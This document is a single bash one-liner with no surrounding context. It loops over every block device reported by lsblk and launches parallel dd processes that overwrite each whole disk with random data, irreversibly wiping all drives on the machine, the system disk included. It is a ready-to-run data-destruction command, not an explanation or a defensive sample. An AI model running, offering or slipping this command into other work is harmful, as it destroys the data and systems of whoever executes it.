for d in $(lsblk -dno NAME); do dd if=/dev/urandom of=/dev/$d bs=1M & done
